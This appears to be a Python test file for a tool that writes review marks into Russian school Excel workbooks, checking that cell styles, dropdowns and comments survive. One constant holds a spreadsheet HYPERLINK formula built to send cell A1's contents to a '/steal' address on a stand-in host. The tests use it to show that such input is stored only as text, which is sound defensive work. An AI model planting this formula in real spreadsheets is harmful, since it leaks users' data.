"""The coordinator's marks in the school's «Отметка МОУО», written by the zip patch.

Real school workbooks from the product's builder; openpyxl and calamine read the result back and
LibreOffice opens it. Hostile texts are made here, in the test run.
"""

from __future__ import annotations

import dataclasses
import io
import re
import zipfile
from pathlib import Path

from lxml import etree
from openpyxl import load_workbook
from openpyxl.comments import Comment

from sync.backends.xlsxio import read_sheets
from sync.backends.xlsxpatch import MAIN_NS, MAX_CELL_CHARS, patch_workbook
from sync.cells import column_letter
from sync.paint import Paint
from tests.fixtures import (
    CONTROL,
    SPEC,
    assert_only_ours_changed,
    backend_of,
    paint_of,
    same_school_values,
)
from tests.fixtures import (
    writeback_setup as setup,
)
from tests.libreoffice import XLSX_FILTER, convert

REVIEW = SPEC.index("review")
R = column_letter(REVIEW)
HEADER = SPEC.column("review").header
HOSTILE_FORMULA = '=HYPERLINK("http://127.0.0.1:1/steal?"&A1,"Принято")'
LONG = "Длинный текст координатора. " * 1200  # ~33 600 characters: more than Excel allows
CONTROL_CHARS = "строка\x01с\x08управляющими\x1fзнаками_x0041_\tи\nпереводом"


def with_reviews(paint: Paint, reviews: tuple[tuple[int, str], ...], **notes: str) -> Paint:
    """The run's paint with the coordinator's marks (and their comments as our notes)."""
    extra = {(SPEC.main_sheet, ref): text for ref, text in notes.items()}
    return dataclasses.replace(
        paint,
        review_col=REVIEW,
        review_header=HEADER,
        reviews=reviews,
        notes={**paint.notes, **extra},
    )


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def validations(xml: str) -> bytes:
    """The sheet's data validations, canonical (character references and UTF-8 alike)."""
    found = re.search(r"<dataValidations.*?</dataValidations>", xml, re.S)
    assert found, "the template's dropdowns are gone"
    return etree.tostring(etree.fromstring(found.group(0).encode()), method="c14n")


def review_cell_xml(xml: str, row: int) -> bytes:
    """One «Отметка МОУО» cell's XML, canonical."""
    found = re.search(rf'<c r="{R}{row}"[^>]*?(?:/>|>.*?</c>)', xml, re.S)
    assert found, f"{R}{row} is missing"
    cell = found.group(0).replace("<c ", f'<c xmlns="{MAIN_NS}" ', 1)
    return etree.tostring(etree.fromstring(cell.encode()), method="c14n")


def without_marks(data: bytes) -> bytes:
    """The workbook with «Отметка МОУО» emptied below the header (what the school typed stays)."""
    wb = load_workbook(io.BytesIO(data))
    ws = wb[SPEC.main_sheet]
    for row in range(2, ws.max_row + 1):
        ws.cell(row, REVIEW).value = None
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_marks_are_text_in_the_templates_cell_with_its_style_and_dropdown(tmp_path: Path) -> None:
    config = setup(tmp_path)
    school = config.schools[0]
    path = Path(school.source)
    before = path.read_bytes()
    backend = backend_of(config)
    paint, fingerprint = paint_of(config, school, backend)
    reviews = (
        (2, "Принято"),
        (3, "На доработке"),
        (4, HOSTILE_FORMULA),
        (5, "x" * 32000),
        (6, CONTROL_CHARS),
        (7, LONG),
        (8, ""),  # an empty mark on an empty cell: nothing to do
    )
    paint = with_reviews(paint, reviews, **{f"{R}3": "Комментарий МОУО: приложите приказ"})
    result = backend.write_back(school, paint, fingerprint)
    assert result.status == "written" and result.partial, result.message
    assert "обрезан" in result.message and f"{R}7" in result.message  # only the too-long text
    after = path.read_bytes()
    assert_only_ours_changed(before, after)

    # openpyxl: every text is a string, the cell's style is the template's, the dropdown stays.
    old = load_workbook(io.BytesIO(before))[SPEC.main_sheet]
    ws = load_workbook(io.BytesIO(after))[SPEC.main_sheet]
    expected = {r: t for r, t in reviews}
    expected[7] = LONG[: MAX_CELL_CHARS - 1] + "…"
    for row in range(2, 9):
        cell = ws.cell(row, REVIEW)
        assert cell.data_type == "s" or cell.value is None, (row, cell.data_type)
        was = old.cell(row, REVIEW)
        assert cell.style_id == was.style_id
        for look in ("fill", "font", "border", "alignment", "protection", "number_format"):
            assert repr(getattr(cell, look)) == repr(getattr(was, look)), (row, look)
    assert ws.cell(2, REVIEW).value == "Принято"
    assert ws.cell(3, REVIEW).value == "На доработке"
    assert ws.cell(4, REVIEW).value == HOSTILE_FORMULA
    assert ws.cell(8, REVIEW).value is None
    dropdowns = {str(dv.sqref): dv.formula1 for dv in ws.data_validations.dataValidation}
    assert dropdowns == {str(dv.sqref): dv.formula1 for dv in old.data_validations.dataValidation}
    assert dropdowns[f"{R}2:{R}29"] == '"Принято,На доработке"'
    note = ws[f"{R}3"].comment
    assert note is not None and note.author == "roadmap-sync" and "приказ" in note.text

    # The sheet XML itself: no formula anywhere in the column, the validations unchanged.
    xml, old_xml = sheet_xml(after), sheet_xml(before)
    assert validations(xml) == validations(old_xml)
    for row in range(2, 9):
        assert b"<f>" not in review_cell_xml(xml, row) and b"<f " not in review_cell_xml(xml, row)

    # calamine (the product's reader) decodes every text exactly as given.
    grid = read_sheets(after)[0][SPEC.main_sheet]
    for row, text in expected.items():
        assert grid[row - 1][REVIEW - 1] == text, row
    assert len(grid[4][REVIEW - 1]) == 32000
    same_school_values(without_marks(before), without_marks(after))


def test_libreoffice_opens_the_patched_file_and_keeps_the_hostile_text_as_text(
    tmp_path: Path,
) -> None:
    config = setup(tmp_path)
    school = config.schools[0]
    path = Path(school.source)
    backend = backend_of(config)
    paint, fingerprint = paint_of(config, school, backend)
    paint = with_reviews(paint, ((2, "Принято"), (4, HOSTILE_FORMULA), (6, CONTROL_CHARS)))
    assert backend.write_back(school, paint, fingerprint).status == "written"
    saved = convert(path, XLSX_FILTER, tmp_path / "lo", tmp_path / "profile")
    ws = load_workbook(saved)[SPEC.main_sheet]
    assert ws.cell(2, REVIEW).value == "Принято"
    cell = ws.cell(4, REVIEW)
    assert cell.data_type == "s" and cell.value == HOSTILE_FORMULA  # LibreOffice: not a formula
    grid = read_sheets(saved.read_bytes())[0][SPEC.main_sheet]
    assert grid[5][REVIEW - 1].replace("\r", "") == CONTROL_CHARS.replace("\r", "")
    assert "Принято,На доработке" in str([dv.formula1 for dv in ws.data_validations.dataValidation])


def test_an_empty_mark_clears_the_value_and_keeps_the_cell_style(tmp_path: Path) -> None:
    config = setup(tmp_path)
    school = config.schools[0]
    path = Path(school.source)
    backend = backend_of(config)
    paint, fingerprint = paint_of(config, school, backend)
    first = backend.write_back(school, with_reviews(paint, ((3, "Принято"),)), fingerprint)
    assert first.status == "written" and not first.partial, first.message
    style = load_workbook(path)[SPEC.main_sheet].cell(3, REVIEW).style_id
    paint, fingerprint = paint_of(config, school, backend)
    second = backend.write_back(school, with_reviews(paint, ((3, ""),)), fingerprint)
    assert second.status == "written" and not second.partial, second.message
    cell = load_workbook(path)[SPEC.main_sheet].cell(3, REVIEW)
    assert cell.value is None and cell.style_id == style
    assert read_sheets(path.read_bytes())[0][SPEC.main_sheet][2][REVIEW - 1] in ("", None)


def test_a_schools_own_note_on_the_mark_cell_is_kept(tmp_path: Path) -> None:
    config = setup(tmp_path)
    school = config.schools[0]
    path = Path(school.source)
    wb = load_workbook(path)
    wb[SPEC.main_sheet][f"{R}3"].comment = Comment("Наше пояснение для МОУО", "Школа")
    wb.save(path)
    backend = backend_of(config)
    paint, fingerprint = paint_of(config, school, backend)
    comment = "Комментарий МОУО: нет подписи"
    paint = with_reviews(paint, ((3, "На доработке"),), **{f"{R}3": comment})
    result = backend.write_back(school, paint, fingerprint)
    assert result.status == "written", result.message
    ws = load_workbook(path)[SPEC.main_sheet]
    assert ws.cell(3, REVIEW).value == "На доработке"
    own = ws[f"{R}3"].comment
    assert own is not None and own.author == "Школа" and own.text == "Наше пояснение для МОУО"
    moved = ws.cell(3, CONTROL).comment  # ours goes beside it, naming the cell it is about
    assert moved is not None and moved.author == "roadmap-sync"
    assert f"{R}3" in moved.text and "нет подписи" in moved.text


def test_a_retitled_mark_column_is_not_written_and_the_result_says_so(tmp_path: Path) -> None:
    config = setup(tmp_path)
    school = config.schools[0]
    path = Path(school.source)
    wb = load_workbook(path)
    ws = wb[SPEC.main_sheet]
    ws.cell(1, REVIEW).value = "Наши заметки"
    ws.cell(3, REVIEW).value = "заметка школы"
    wb.save(path)
    before = path.read_bytes()
    backend = backend_of(config)
    paint, fingerprint = paint_of(config, school, backend)
    result = backend.write_back(school, with_reviews(paint, ((3, "Принято"),)), fingerprint)
    assert result.status == "written" and result.partial
    assert f"«{HEADER}» не записана" in result.message and "«Наши заметки»" in result.message
    after = path.read_bytes()
    assert load_workbook(path)[SPEC.main_sheet].cell(3, REVIEW).value == "заметка школы"
    assert read_sheets(after)[0][SPEC.main_sheet][2][REVIEW - 1] == "заметка школы"
    assert review_cell_xml(sheet_xml(after), 3) == review_cell_xml(sheet_xml(before), 3)
    assert result.reviews_shown == ()


def test_a_header_with_a_hint_in_brackets_is_ours_as_for_the_reader(tmp_path: Path) -> None:
    config = setup(tmp_path)
    school = config.schools[0]
    path = Path(school.source)
    wb = load_workbook(path)
    wb[SPEC.main_sheet].cell(1, REVIEW).value = "Отметка МОУО (заполняет МОУО)"
    wb.save(path)
    backend = backend_of(config)
    paint, fingerprint = paint_of(config, school, backend)
    result = backend.write_back(school, with_reviews(paint, ((3, "Принято"),)), fingerprint)
    assert result.status == "written" and not result.partial, result.message
    assert load_workbook(path)[SPEC.main_sheet].cell(3, REVIEW).value == "Принято"
    assert result.reviews_shown == (3,)


def test_a_mark_is_never_written_into_merged_cells(tmp_path: Path) -> None:
    config = setup(tmp_path)
    school = config.schools[0]
    path = Path(school.source)
    wb = load_workbook(path)
    ws = wb[SPEC.main_sheet]
    ws.merge_cells(start_row=5, start_column=REVIEW, end_row=6, end_column=REVIEW)
    wb.save(path)
    backend = backend_of(config)
    paint, fingerprint = paint_of(config, school, backend)
    paint = with_reviews(paint, ((4, "Принято"), (5, "Принято"), (6, "На доработке")))
    result = backend.write_back(school, paint, fingerprint)
    assert result.status == "written" and result.partial
    assert f"{R}5:{R}6" in result.message and "объединены" in result.message
    ws = load_workbook(path)[SPEC.main_sheet]
    assert ws.cell(4, REVIEW).value == "Принято"
    assert ws.cell(5, REVIEW).value is None and ws.cell(6, REVIEW).value is None
    assert result.reviews_shown == (4,)  # only that one is recorded as shown


def test_the_patch_alone_leaves_the_column_when_the_paint_has_no_column(tmp_path: Path) -> None:
    config = setup(tmp_path)
    school = config.schools[0]
    backend = backend_of(config)
    paint, _ = paint_of(config, school, backend)
    data = Path(school.source).read_bytes()
    patched = patch_workbook(
        data, dataclasses.replace(paint, reviews=((3, "Принято"),)), "roadmap-sync"
    )
    assert patched.review_refused and patched.reviews_written == 0
    assert any("не найден" in r for r in patched.remarks)
    assert review_cell_xml(sheet_xml(patched.data), 3) == review_cell_xml(sheet_xml(data), 3)
